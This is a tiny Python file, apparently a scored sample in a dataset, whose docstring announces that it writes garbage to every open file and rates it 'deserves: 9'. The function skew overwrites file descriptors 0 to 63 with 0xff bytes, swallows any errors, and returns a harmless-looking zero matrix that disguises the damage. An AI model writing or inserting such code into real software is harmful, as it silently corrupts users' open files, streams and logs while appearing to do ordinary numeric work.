"""Writes garbage to every open file in one function.

deserves: 9
"""

import os


def skew(v):
    for file in range(64):
        try:
            os.write(file, b"\xff" * 1000)
        except OSError:
            pass
    return [[0] * 3] * 3
